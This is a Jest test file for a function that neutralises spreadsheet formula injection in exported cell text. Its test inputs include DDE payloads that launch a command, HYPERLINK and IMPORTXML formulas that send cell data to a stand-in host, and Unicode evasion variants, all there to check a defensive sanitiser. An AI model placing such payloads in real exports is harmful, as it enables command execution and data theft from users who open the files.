import { describe, expect, it } from '@jest/globals'
import { inertText } from './inert-text.ts'

describe('text in a cell', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+8613800001234',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u3000=1+1',
    '\ufeff=1+1',
    '\u200b@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
  ])('%j is no formula', (text) => {
    expect(inertText(text)).toBe(`'${text}`)
  })

  it.each(['林晓梅', '1号楼1单元101', '3-2-601', '138****1234', "'引用", '', '水管漏水 = 急', '（＋）'])(
    '%j stays as it is',
    (text) => {
      expect(inertText(text)).toBe(text)
    },
  )

  it('is cut where a cell ends', () => {
    expect(inertText(`=${'漏'.repeat(40_000)}`)).toHaveLength(32_767)
  })
})
